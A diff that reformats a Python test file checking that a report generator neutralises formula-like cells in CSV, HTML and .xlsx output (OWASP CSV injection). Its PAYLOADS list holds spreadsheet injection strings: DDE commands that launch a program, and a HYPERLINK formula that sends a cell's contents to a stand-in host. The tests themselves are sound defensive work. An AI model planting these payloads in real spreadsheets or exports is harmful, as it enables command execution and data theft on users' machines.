@@ -1,6 +1,7 @@
 """What a submitted draft or spec carries never becomes a live formula in the supervising office's
 workbook (OWASP CSV injection): text cells starting like a formula get a leading 「'」 in CSV and
 HTML and are stored as text in .xlsx; a file name that is not UTF-8 still gives every summary."""
+
 from __future__ import annotations
 
 import csv
@@ -15,9 +16,15 @@ from harness import ROOT, example, fazhi
 from generator.batch.columns import FORMULA_START
 
 SEED = ROOT / "tests" / "fixtures" / "published" / "kaifu-2022-report.txt"
-PAYLOADS = {"equals": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")', "plus": "+1+cmd|' /C calc'!A0",
-            "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1",
-            "full-width": "＝1+1", "cr": "\r=1+1"}
+PAYLOADS = {
+    "equals": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "full-width": "＝1+1",
+    "cr": "\r=1+1",
+}
 
 
 def _drafts(folder, payload: str):
@@ -87,10 +94,13 @@ def test_figures_cells_are_never_formulas(tmp_path, payload):
     from openpyxl import load_workbook
 
     quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
-    spec = example("template-county-2025.yaml", tmp_path,
-                   ("{name: 示例县,", f'{{name: "{quoted}",'),
-                   ("label: 行政复议案件}", f'label: "{quoted}"}}'),
-                   ("{value: 9, unit: 件,", f'{{value: "{quoted}", unit: 件,'))
+    spec = example(
+        "template-county-2025.yaml",
+        tmp_path,
+        ("{name: 示例县,", f'{{name: "{quoted}",'),
+        ("label: 行政复议案件}", f'label: "{quoted}"}}'),
+        ("{value: 9, unit: 件,", f'{{value: "{quoted}", unit: 件,'),
+    )
     run = fazhi("figures", spec, "--csv", tmp_path / "f.csv", "--xlsx", tmp_path / "f.xlsx", cwd=tmp_path)
     assert run.code == 0, run.text
     cells = [c for row in csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))) for c in row]
@@ -126,8 +136,19 @@ def test_a_file_name_that_is_not_utf8_still_gives_every_summary(tmp_path):
     assert any(re.search("牡丹江市1.txt$", str(n)) for n in names)
 
 
-@pytest.mark.parametrize("text, shown", [("-5", "-5"), ("+1.5", "+1.5"), ("-3%", "-3%"), ("-2+3", "'-2+3"),
-                                         ("=1", "'=1"), ("@A1", "'@A1"), ("－5", "'－5"), ("开福区", "开福区")])
+@pytest.mark.parametrize(
+    "text, shown",
+    [
+        ("-5", "-5"),
+        ("+1.5", "+1.5"),
+        ("-3%", "-3%"),
+        ("-2+3", "'-2+3"),
+        ("=1", "'=1"),
+        ("@A1", "'@A1"),
+        ("－5", "'－5"),
+        ("开福区", "开福区"),
+    ],
+)
 def test_a_plain_number_stays_a_number_and_a_formula_becomes_text(text, shown):
     from generator.batch.columns import neutral
 
